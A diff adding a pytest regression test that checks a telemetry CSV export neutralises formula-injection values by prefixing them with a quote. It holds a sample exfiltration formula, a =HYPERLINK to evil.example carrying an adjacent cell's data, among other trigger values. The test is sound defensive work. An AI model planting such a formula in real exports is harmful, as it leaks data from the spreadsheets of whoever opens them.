@@ -224,6 +224,32 @@ def test_export_writes_json_lines_or_csv(
     assert [r["invocation_id"] for r in lines] == ["i2", "i5"]
 
 
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A plan id is the server's to choose (review25 G13: =HYPERLINK(...) sent the rows
+    beside it away when the person opened the export)."""
+    monkeypatch.setenv("AGENTWORKER_HOME", str(tmp_path))
+    state = State(tmp_path / "state.db")
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
+    plans = [formula, "+1", "-2", "@SUM(A1)", "\tx", "plain"]
+    Telemetry(state.connection).record_many(
+        [
+            pb.Invocation(
+                invocation_id=f"i{n}", plan_id=plan, surface="workerHost", action="fs_stat"
+            )
+            for n, plan in enumerate(plans)
+        ],
+        server="A",
+    )
+    state.close()
+    out = tmp_path / "rows.csv"
+    assert main(["telemetry", "export", "--format", "csv", "-o", str(out)]) == 0
+    with out.open(newline="") as f:
+        shown = [row["plan_id"] for row in csv.DictReader(f)]
+    assert shown == ["'" + plan for plan in plans[:-1]] + ["plain"]
+
+
 def test_the_human_listing_has_one_line_per_row(
     home: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
